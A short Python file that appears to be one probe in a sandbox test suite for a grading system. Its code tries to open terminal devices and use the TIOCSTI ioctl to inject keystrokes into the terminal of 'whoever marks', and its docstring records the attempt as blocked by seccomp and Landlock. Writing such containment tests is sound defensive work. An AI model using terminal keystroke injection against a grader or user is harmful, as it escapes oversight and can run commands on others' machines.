"""Types a command into the terminal of whoever marks.
What stops it: no file can be opened, no terminal either, and the worker's session has none.

Loses: 1.1.1, 1.1.2, 1.1.3
Wall: seccomp, Landlock
Ends: wrong
"""

import fcntl
import os


def types(path):
    """Have a terminal, and type; what few kernels still allow."""
    terminal = os.open(path, os.O_RDWR)
    if not os.isatty(terminal):
        raise OSError
    works(fcntl.ioctl, terminal, 0x5412, b"x")


@once
def attack():
    return any([works(types, path) for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/dev/console", "/dev/ptmx")])
